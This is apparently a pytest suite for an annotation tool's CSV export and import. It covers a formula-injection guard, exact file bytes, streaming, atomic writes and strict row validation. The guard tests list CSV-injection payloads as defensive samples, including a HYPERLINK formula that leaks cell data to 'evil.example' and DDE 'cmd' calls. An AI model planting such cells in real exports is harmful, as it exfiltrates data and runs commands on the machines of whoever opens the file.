"""The CSV contract: exact bytes, the formula guard, streaming, atomic writes, a strict reader."""
from __future__ import annotations

import codecs
import csv
import io
import re
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotator.core.csvio import HEADER, CsvReader, CsvRefused, CsvRow, guard, unguard, write_csv, write_rows

T0 = datetime(2024, 7, 11, 9, 30, tzinfo=UTC)
SHA = "ab" * 32


def row(n: int = 1, text: str = "47", note: str = "", title: str = "حلب", label: str = "figure",
        annotator: str = "ana") -> CsvRow:
    return CsvRow(3, title, SHA, n, label, 10, 10 + len(text), text, note, annotator, T0,
                  T0 + timedelta(seconds=n))


def written(rows: list[CsvRow]) -> bytes:
    buf = io.StringIO(newline="")
    write_rows(rows, buf)
    return codecs.BOM_UTF8 + buf.getvalue().encode("utf-8")


def cells_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# -- the formula guard ------------------------------------------------------------------------
@pytest.mark.parametrize(("cell", "shown"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"انقر")', '\'=HYPERLINK("http://evil.example/?x="&A1,"انقر")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("=", "'="),
    ("-5\n", "'-5\n"),       # a trailing line break makes it no plain number
    ("-٥", "'-٥"),           # Arabic-Indic digits are not what a spreadsheet parses as a number
    ("'=1+1", "''=1+1"),     # an apostrophe the analyst typed survives the round trip
    ("''@x", "'''@x"),
    ("-5", "-5"), ("+3.2", "+3.2"), ("-5%", "-5%"), ("-.5", "-.5"), ("+10.", "+10."),
    ("47", "47"), ("قال", "قال"), ("'quoted'", "'quoted'"), ("", ""), (" =1", " =1"),
    ("a=b", "a=b"),
])
def test_guard_neutralises_formulas_but_not_plain_numbers(cell: str, shown: str) -> None:
    assert guard(cell) == shown
    assert unguard(shown) == cell


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n5.%ab قال"), max_size=12) | st.text())
def test_guard_round_trip_is_exact_for_every_string(cell: str) -> None:
    shown = guard(cell)
    assert unguard(shown) == cell
    # What a spreadsheet sees never starts a formula.
    assert shown[:1] not in set("=+-@\t\r") or shown.lstrip("+-").replace(".", "", 1).rstrip("%").isdigit() \
        or shown in ("-.5",) or _is_plain_number(shown)


def _is_plain_number(cell: str) -> bool:
    import re
    return re.fullmatch(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)%?", cell) is not None


def test_every_text_cell_is_guarded_in_the_file() -> None:
    data = written([row(text="=1+1", note="@SUM(A1)", title="+cmd|x", label="-x", annotator="=me")])
    cells = cells_of(data)[1]
    assert cells[HEADER.index("text")] == "'=1+1"
    assert cells[HEADER.index("note")] == "'@SUM(A1)"
    assert cells[HEADER.index("document_title")] == "'+cmd|x"
    assert cells[HEADER.index("label")] == "'-x"
    assert cells[HEADER.index("annotator")] == "'=me"


# -- bytes on disk ----------------------------------------------------------------------------
def test_file_is_utf8_with_bom_crlf_and_the_exact_header(tmp_path: Path) -> None:
    out = tmp_path / "spans.csv"
    n = write_csv(out, [row(1), row(2, text='قال "نعم"\nثم, ذهب', note="سطر\r\nسطر")])
    data = out.read_bytes()
    assert n == 2
    assert data.startswith(codecs.BOM_UTF8 + b"document_id,document_title,document_sha256,annotation_id,"
                           b"label,start,end,text,note,annotator,created_at,updated_at\r\n")
    assert data.endswith(b"\r\n")
    lines = data[3:].split(b"\r\n")
    assert lines[1] == ("3,حلب," + SHA + ",1,figure,10,12,47,,ana,2024-07-11T09:30:00Z,"
                        "2024-07-11T09:30:01Z").encode()
    # RFC 4180: quotes doubled, the line break kept inside the quoted cell.
    assert '"قال ""نعم""\nثم, ذهب","سطر\r\nسطر"'.encode() in data
    assert cells_of(data)[2][7:9] == ['قال "نعم"\nثم, ذهب', "سطر\r\nسطر"]


def test_times_are_written_in_utc() -> None:
    plus3 = timezone(timedelta(hours=3))
    r = CsvRow(1, "t", SHA, 1, "claim", 0, 1, "x", "", "", datetime(2024, 1, 1, 12, tzinfo=plus3),
               datetime(2024, 1, 1, 12, 0, 0, 250000, tzinfo=UTC))
    cells = cells_of(written([r]))[1]
    assert cells[-2:] == ["2024-01-01T09:00:00Z", "2024-01-01T12:00:00.250000Z"]


def test_failed_export_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    out = tmp_path / "spans.csv"
    out.write_bytes(b"the previous export")

    def rows() -> Iterator[CsvRow]:
        yield row(1)
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError):
        write_csv(out, rows())
    assert out.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["spans.csv"]


def test_writer_streams_without_collecting_rows(tmp_path: Path) -> None:
    produced = 0

    def lazily() -> Iterator[CsvRow]:
        nonlocal produced
        claim = "وقال شويغو إن عدد هذه الممرات يبلغ 3"
        for n in range(200_000):
            produced += 1
            yield CsvRow(n // 100, "حلب", SHA, n, "claim", 10, 46, claim, "=x" if n % 7 == 0 else "",
                         "ana", T0, T0)

    out = tmp_path / "big.csv"
    tracemalloc.start()
    try:
        count = write_csv(out, lazily())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == produced == 200_000
    assert out.stat().st_size > 200_000 * 150  # the rows really are on disk ...
    assert peak < 2 * 1024 * 1024               # ... while memory stayed small (a list of them is ~100 MB)


# -- reading back -------------------------------------------------------------------------------
def test_read_back_gives_the_same_rows_exactly(tmp_path: Path) -> None:
    rows = [row(1, text="=1+1", note="'=x"), row(2, text="-5%", note="a\r\nb", title="+t"),
            row(3, text="قَالَ 😀", annotator="@me")]
    out = tmp_path / "a.csv"
    write_csv(out, rows)
    back = list(CsvReader(out))
    assert back == rows
    assert [r.line for r in back] == [2, 3, 4]


def write_text(path: Path, text: str, bom: bool = True) -> Path:
    path.write_bytes((codecs.BOM_UTF8 if bom else b"") + text.encode("utf-8"))
    return path


HEAD = ",".join(HEADER) + "\r\n"
GOOD = f"3,حلب,{SHA},1,figure,10,12,47,,ana,2024-07-11T09:30:00Z,2024-07-11T09:30:00Z\r\n"


@pytest.mark.parametrize(("content", "reason"), [
    ("", "empty file"),
    ("a,b,c\r\n1,2,3\r\n", "the header must name label, start, end, text and "
                          "document_sha256 or document_id"),
    (HEAD.replace("label,", ""), "(missing label)"),
    (HEAD.replace("document_id,", "").replace("document_sha256,", ""),
     "(missing document_sha256 or document_id)"),
    (HEAD.replace("note,", "note,text,"), "(text given twice)"),
])
def test_wrong_files_are_refused_at_once(tmp_path: Path, content: str, reason: str) -> None:
    path = write_text(tmp_path / "x.csv", content)
    with pytest.raises(CsvRefused) as err:
        CsvReader(path)
    message = str(err.value)
    assert message.startswith(f"{path}: ") and reason in message and "\n" not in message


@pytest.mark.parametrize(("bad", "reason"), [
    (GOOD.replace(",10,12,", ",ten,12,"), "row 3: start 'ten' is not a whole number"),
    (GOOD.replace(",10,12,", ",-1,12,"), "row 3: start '-1' is not a whole number"),
    (GOOD.replace("2024-07-11T09:30:00Z\r\n", "yesterday\r\n"), "row 3: updated_at 'yesterday' is not"),
    (GOOD.replace(SHA, "abc"), "row 3: document_sha256 'abc' is not a SHA-256"),
    (GOOD.replace(",ana,", ",ana,x,"), "row 3: has 13 cells, expected 12"),
    ('3,"unterminated\r\n', "row 3: "),
    ('3,"a"b,\r\n', "row 3: malformed CSV"),
    ("3,\x00,x\r\n", "row 3: has 3 cells"),
])
def test_a_malformed_row_stops_the_read_naming_the_row(tmp_path: Path, bad: str, reason: str) -> None:
    path = write_text(tmp_path / "x.csv", HEAD + GOOD + bad + GOOD)
    with pytest.raises(CsvRefused) as err:
        list(CsvReader(path))
    assert reason in str(err.value) and str(err.value).startswith(f"{path}: ")


def test_skip_bad_leaves_out_malformed_rows_and_says_which(tmp_path: Path) -> None:
    path = write_text(tmp_path / "x.csv", HEAD + GOOD + GOOD.replace(",10,", ",x,") + "\r\n" + GOOD)
    reader = CsvReader(path, skip_bad=True)
    rows = list(reader)
    assert [r.line for r in rows] == [2, 5]  # the blank line still counts as a spreadsheet row
    assert reader.skipped == [f"{path}: row 3: start 'x' is not a whole number; skipped"]


def test_reader_accepts_no_bom_guarded_cells_and_zone_less_times(tmp_path: Path) -> None:
    line = GOOD.replace(",47,,", ",'=1+1,'-x,").replace("2024-07-11T09:30:00Z", "2024-07-11 12:30:00+03:00", 1)
    path = write_text(tmp_path / "x.csv", HEAD + line.replace("2024-07-11T09:30:00Z", "2024-07-11 09:30:00"),
                      bom=False)
    (r,) = list(CsvReader(path))
    assert (r.text, r.note) == ("=1+1", "-x")
    assert r.created_at == r.updated_at == T0


def test_binary_garbage_is_one_clear_line(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(bytes(range(256)) * 4096)
    with pytest.raises(CsvRefused) as err:
        CsvReader(path)
    assert str(err.value) == f"{path}: not UTF-8 text: not an annotation CSV"


def test_garbage_after_a_good_header(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(HEAD.encode() + GOOD.encode() + b"\xff\xfe\x00garbage" * 10_000)
    with pytest.raises(CsvRefused) as err:
        list(CsvReader(path))
    assert "not UTF-8 text" in str(err.value)


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(CsvRefused) as err:
        CsvReader(tmp_path / "none.csv")
    assert str(err.value) == f"{tmp_path / 'none.csv'}: No such file or directory"


def test_the_minimal_form_of_a_script_in_any_order(tmp_path: Path) -> None:
    """A script knows the document's SHA-256, the label, the offsets and the text; nothing else."""
    path = write_text(tmp_path / "from_script.csv",
                      f"text,end,start,label,document_sha256,source_model\r\n"
                      f"47,12,10,figure,{SHA.upper()},ner-v2\r\n"
                      f"'=x,3,0,claim,{SHA},ner-v2\r\n")
    reader = CsvReader(path, annotator="")
    assert reader.ignored_columns == ["source_model"]
    rows = list(reader)
    assert [(r.document_sha256, r.label, r.start, r.end, r.text, r.annotator) for r in rows] == [
        (SHA, "figure", 10, 12, "47", "from_script"), (SHA, "claim", 0, 3, "=x", "from_script")]
    assert all(r.document_id is None and r.annotation_id is None and r.created_at is None
               and r.updated_at is None and r.note == "" for r in rows)


def test_blank_ids_and_times_in_the_full_form(tmp_path: Path) -> None:
    path = write_text(tmp_path / "x.csv", HEAD + f",,{SHA},,claim,0,3,abc,,,,\r\n"
                      f"7,,,,claim,0,3,abc,,,,\r\n")
    first, second = CsvReader(path, annotator="huda")
    assert (first.document_id, first.annotation_id, first.created_at, first.annotator) == \
        (None, None, None, "huda")
    assert (second.document_id, second.document_sha256) == (7, "")


@pytest.mark.parametrize(("row", "reason"), [
    (",,,,claim,0,3,abc,,,,", "row 2: document_sha256 '' is not a SHA-256"),
    (f"x,,{SHA},,claim,0,3,abc,,,,", "row 2: document_id 'x' is not a whole number"),
    (f",,{SHA},,claim,,3,abc,,,,", "row 2: start '' is not a whole number"),
    (f",,{SHA},,claim,0,3,abc,,,yesterday,", "row 2: created_at 'yesterday' is not an ISO 8601"),
])
def test_a_wrong_row_of_the_minimal_form_is_still_refused(tmp_path: Path, row: str,
                                                          reason: str) -> None:
    path = write_text(tmp_path / "x.csv", HEAD + row + "\r\n")
    with pytest.raises(CsvRefused, match=re.escape(reason)):
        list(CsvReader(path))
